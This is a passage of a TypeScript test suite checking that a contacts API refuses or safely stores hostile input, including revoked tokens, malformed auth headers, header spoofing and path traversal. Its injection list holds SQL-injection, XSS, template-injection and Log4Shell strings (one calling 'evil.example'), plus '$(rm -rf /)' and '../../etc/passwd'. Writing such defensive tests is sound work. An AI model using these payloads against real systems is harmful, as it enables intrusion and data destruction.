      [`type=${encodeURIComponent("user' OR 1=1 --")}`, { status: 422, pointer: '/query/type' }],
      [`tag=${'t'.repeat(101)}`, { status: 422, pointer: '/query/tag' }],
      ['tag=a&tag=b', { status: 422, pointer: '/query/tag' }],
      ['tag=a%00b', { status: 422, pointer: '/query/tag', code: 'invalid_characters' }],
      ['email=a%00%40example.com', { status: 422, pointer: '/query/email', code: 'invalid_characters' }],
      ['admin=true', { status: 422, pointer: '/query/admin', code: 'unknown_field' }],
      ['__proto__=1', { status: 422, pointer: '/query/__proto__' }],
      ['constructor=1', { status: 422, pointer: '/query/constructor' }],
      ['prototype=1', { status: 422, pointer: '/query/prototype' }],
      ['a%00b=1', { status: 422, pointer: '/query/a\u0000b', code: 'invalid_characters' }],
    ];
    return cases.map(([query, expected]): Case => [`GET /api/contacts.json?${query.slice(0, 60)}`, list(query), expected]);
  };

  const corpus: Case[] = [
    ...ROUTES.flatMap(bodyCases),
    ...idCases(),
    ...deleteBodyCases(),
    ...scopeCases(),
    ...eraseCases(),
    ...queryCases(),
    ...signinCases(),
  ];

  const refusals = corpus;

  it('is large enough to mean something', () => {
    expect(refusals.length).toBeGreaterThan(400);
  });

  it.each(refusals)('refuses %s', async (_name, send, expected) => {
    const events = await countEvents(api);
    const contacts = await countContacts(api);

    const sut = await send();

    expect(sut.statusCode).toBeLessThan(500);
    expect(sut.statusCode).toBe(expected.status);
    {
      const problem = problemOf(sut);
      expect(Object.keys(problem)).toEqual(expect.arrayContaining(['type', 'title', 'status', 'detail', 'errors']));
      if (expected.pointer !== undefined) {
        const pointers = problem.errors.map((e) => e.pointer);
        if (typeof expected.pointer === 'string') expect(pointers).toContain(expected.pointer);
        else expect(pointers).toContainEqual(expect.stringMatching(expected.pointer));
      }
      if (expected.code !== undefined) {
        expect(problem.errors).toContainEqual(expect.objectContaining({ code: expected.code }));
      }
    }
    expect(await countEvents(api)).toBe(events);
    expect(await countContacts(api)).toBe(contacts);
  });

  it('leaves the contact every update aimed at as it was', async () => {
    const events = await countEvents(api);
    for (const [, send] of refusals.filter(([name]) => name.startsWith('update: '))) {
      expect((await send()).statusCode).toBeLessThan(500);
    }

    const sut = await get(api, token, `/api/contacts/${target.id}.json`);

    expect(sut.json<{ contact: ContactView }>().contact).toEqual(target);
    expect(await countEvents(api)).toBe(events);
  });

  it.each(['tag=%25', 'tag=%', 'tag=_', 'tag=*', 'tag=%ED%A0%80', 'tag=.*'])(
    'matches the filter %s literally, finding nothing',
    async (query) => {
      await aCreatedContact(api, token, aGuestPayload({ tags: { contact: ['vip'] } }));

      const sut = await get(api, token, `/api/contacts.json?${query}`);

      expect(sut.statusCode).toBe(200);
      expect(sut.json<ContactPage>().pagination.total).toBe(0);
    },
  );

  describe('injection-looking strings are data', () => {
    const injections = [
      "'; DROP TABLE contacts; --",
      '<script>alert(1)</script>',
      '{{7*7}}',
      '${jndi:ldap://evil.example/a}',
      "Robert'); DROP TABLE students;--",
      '" OR ""="',
      '$(rm -rf /)',
      '`id`',
      '%s%s%s%n',
      '../../etc/passwd',
      '{"$gt": ""}',
      '<img src=x onerror=alert(1)>',
      '#{7*7} ${7*7} <%= 7*7 %>',
      'line\nbreak\ttab',
      'Ünïcödé 名前 🎉',
    ];

    const read = (id: string): Promise<ContactView> => readContact(api, token, id);

    it.each(injections)('stores %j verbatim in every free-text field on create, and reads it back unchanged', async (text) => {
      const payload = aGuestPayload({
        firstname: text,
        lastname: text,
        address: { firstname: text, line1: text, line2: text, line3: text, city: text, region: text, zip: text.slice(0, 32) },
        tags: { contact: [text] },
      });

      const sut = await post(api, token, '/api/contacts.json', { contact: payload });

      expect(sut.statusCode).toBe(201);
      const created = sut.json<{ contact: ContactView }>().contact;
      const expected = {
        firstname: text.trim(),
        lastname: text.trim(),
        address: expect.objectContaining({ firstname: text.trim(), line1: text.trim(), city: text.trim(), zip: text.slice(0, 32).trim() }),
        tags: { contact: [text.trim()] },
      };
      expect(created).toMatchObject(expected);
      expect(await read(created.id)).toEqual(created);
    });

    it.each(injections)('stores %j verbatim on update, and reads it back unchanged', async (text) => {
      const { id } = await aCreatedContact(api, token, aGuestPayload());

      const sut = await post(api, token, `/api/contacts/${id}.json`, { contact: { firstname: text, tags: { contact: [text] } } });

      expect(sut.statusCode).toBe(200);
      expect(await read(id)).toMatchObject({ firstname: text.trim(), tags: { contact: [text.trim()] } });
    });

    it.each(injections.filter((text) => !/<[a-zA-Z!/?]|&#?[a-zA-Z0-9]+;/.test(text)))('stores the company %j verbatim', async (company) => {
      const created = await aCreatedContact(api, token, aGuestPayload({ company }));

      expect((await read(created.id)).company).toBe(company.trim());
    });

    it('finds a contact by an injection-looking tag, and only that contact', async () => {
      const tag = `' OR '1'='1 ${uniqueEmail('tag')}`;
      const { id } = await aCreatedContact(api, token, aGuestPayload({ tags: { contact: [tag] } }));
      await aCreatedContact(api, token, aGuestPayload({ tags: { contact: ['plain'] } }));

      const sut = await get(api, token, `/api/contacts.json?tag=${encodeURIComponent(tag)}`);

      expect(sut.statusCode).toBe(200);
      expect(sut.json<ContactPage>().contacts.map((c) => c.id)).toEqual([id]);
    });

    it('finds a contact by an email holding a quote, and only that contact', async () => {
      const email = `o'brien-${uniqueEmail('quote')}`;
      const { id } = await aCreatedContact(api, token, aGuestPayload({ email }));

      const sut = await get(api, token, `/api/contacts.json?email=${encodeURIComponent(email)}`);

      expect(sut.statusCode).toBe(200);
      expect(sut.json<ContactPage>().contacts.map((c) => c.id)).toEqual([id]);
    });

    it('leaves the tables in place', async () => {
      const before = await countContacts(api);
      await aCreatedContact(api, token, aGuestPayload({ firstname: "'; DROP TABLE contacts; --", lastname: "'; TRUNCATE events; --" }));

      expect(await countContacts(api)).toBe(before + 1);
      expect(await countEvents(api)).toBeGreaterThan(0);
    });
  });
});

describe('hostile input at the edges: revoked tokens, the queue dashboard, the invite page', () => {
  const INVITES_PER_MINUTE = 5;
  const password = 'a-dashboard-password';
  let api: TestApi;
  let revokedToken: string;
  let revoked: { client_id: string; client_secret: string };

  beforeAll(async () => {
    api = await createTestApi({
      label: 'hostile-edges',
      env: { ADMIN_PASSWORD: password, INVITE_RATE_LIMIT_PER_MINUTE: String(INVITES_PER_MINUTE) },
    });
    revoked = await api.client();
    const issued = await post(api, null, '/oauth/token', { grant_type: 'client_credentials', ...revoked });
    revokedToken = issued.json<{ access_token: string }>().access_token;
    await new ClientStore(api.database.db).revoke(revoked.client_id);
    await until(async () => (await get(api, revokedToken, '/api/roles.json')).statusCode === 401);
  });
  afterAll(() => api.close());

  const withRevokedToken: [string, () => Promise<Response>][] = [
    ['a list', () => get(api, revokedToken, '/api/contacts.json')],
    ['a read', () => get(api, revokedToken, `/api/contacts/${UNKNOWN_ID}.json`)],
    ['a create', () => post(api, revokedToken, '/api/contacts.json', { contact: aGuestPayload() })],
    ['an update', () => post(api, revokedToken, `/api/contacts/${UNKNOWN_ID}.json`, { contact: { firstname: 'X' } })],
    ['the feed', () => get(api, revokedToken, '/api/events.json')],
    ['a role create', () => post(api, revokedToken, '/api/roles.json', { role: { reference: 'r', title: 'R', approvalMethod: 'none' } })],
    [
      'a lower-case scheme',
      () => api.http.inject({ method: 'GET', url: '/api/contacts.json', headers: { authorization: `bearer ${revokedToken}` } }),
    ],
  ];

  it.each(withRevokedToken)("refuses a revoked client's token on %s with 401 invalid_token, writing nothing", async (_case, send) => {
    const events = await countEvents(api);

    const sut = await send();

    expect(sut.statusCode).toBe(401);
    expect(problemOf(sut)).toMatchObject({ status: 401, type: expect.stringContaining('invalid_token') });
    expect(await countEvents(api)).toBe(events);
  });

  it.each<[string, () => Promise<Response>]>([
    ['in the body', () => post(api, null, '/oauth/token', { grant_type: 'client_credentials', ...revoked })],
    [
      'as HTTP Basic',
      () =>
        api.http.inject({
          method: 'POST',
          url: '/oauth/token',
          headers: { authorization: `Basic ${Buffer.from(`${revoked.client_id}:${revoked.client_secret}`).toString('base64')}` },
          payload: { grant_type: 'client_credentials' },
        }),
    ],
    ['narrowed to one scope', () => post(api, null, '/oauth/token', { grant_type: 'client_credentials', scope: 'contacts', ...revoked })],
  ])("refuses a revoked client's credentials %s with 401 invalid_client", async (_case, send) => {
    const sut = await send();

    expect(sut.statusCode).toBe(401);
    expect(problemOf(sut)).toMatchObject({ error: 'invalid_client' });
  });

  const junkAuthorization: [string, string][] = [
    ['an empty Basic', 'Basic'],
    ['Basic with spaces only', 'Basic    '],
    ['a lone colon', `Basic ${Buffer.from(':').toString('base64')}`],
    ['the user alone', `Basic ${Buffer.from('admin').toString('base64')}`],
    ['the password alone', `Basic ${Buffer.from(`:${password}`).toString('base64')}`],
    ['the password with a trailing NUL', `Basic ${Buffer.from(`admin:${password}\u0000`).toString('base64')}`],
    ['not base64', 'Basic ***'],
    ['a 64 KiB credential', `Basic ${Buffer.from(`admin:${'x'.repeat(64 * 1024)}`).toString('base64')}`],
    ['invalid UTF-8', `Basic ${Buffer.from([0x61, 0x3a, 0xff, 0xfe]).toString('base64')}`],
    ['two schemes', `Basic ${Buffer.from(`admin:${password}`).toString('base64')}, Bearer x`],
    ['a Bearer token', 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.x'],
  ];

  it.each(junkAuthorization)('refuses the queue dashboard %s with a 401 problem', async (_case, authorization) => {
    const sut = await api.http.inject({
      method: 'GET',
      url: '/admin/queues/api/queues',
      headers: { authorization },
      remoteAddress: '192.0.2.10',
    });

    expect(sut.statusCode).toBe(401);
    expect(problemOf(sut)).toMatchObject({ status: 401 });
  });

  it('does not let X-Forwarded-For from an untrusted peer escape the invite page limit', async () => {
    const answers: number[] = [];
    for (let i = 0; i <= INVITES_PER_MINUTE; i++) {
      const response = await api.http.inject({
        method: 'GET',
        url: `/invites/${'A'.repeat(40)}${i}`,
        remoteAddress: '192.0.2.20',
        headers: { 'x-forwarded-for': `10.0.0.${i}` },
      });
      answers.push(response.statusCode);
    }

    expect(answers).toEqual([...Array(INVITES_PER_MINUTE).fill(404), 429]);
  });

  it.each([
    ['a token of NULs', `/invites/${'%00'.repeat(43)}`, '192.0.2.31'],
    ['a traversal', '/invites/..%2F..%2Fadmin%2Fqueues', '192.0.2.32'],
    ['an encoded slash', `/invites/abc%2Fdef`, '192.0.2.33'],
    ['a query of junk', `/invites/${'B'.repeat(43)}?${'x=%FF&'.repeat(200)}`, '192.0.2.34'],
  ])('answers %s at the invite page below 500, and counts it against the address', async (_case, url, remoteAddress) => {
    const answers: number[] = [];
    for (let i = 0; i < INVITES_PER_MINUTE; i++) answers.push((await api.http.inject({ method: 'GET', url, remoteAddress })).statusCode);

    const sut = await api.http.inject({ method: 'GET', url, remoteAddress });

    expect(answers.every((status) => status >= 400 && status < 500)).toBe(true);
    expect(sut.statusCode).toBe(429);
    expect(Number(sut.headers['retry-after'])).toBeGreaterThanOrEqual(1);
  });

  it('refuses a token too long for the route with 414 before any lookup', async () => {
    const sut = await api.http.inject({ method: 'GET', url: `/invites/${'A'.repeat(5000)}`, remoteAddress: '192.0.2.35' });

    expect(sut.statusCode).toBe(414);
  });
});
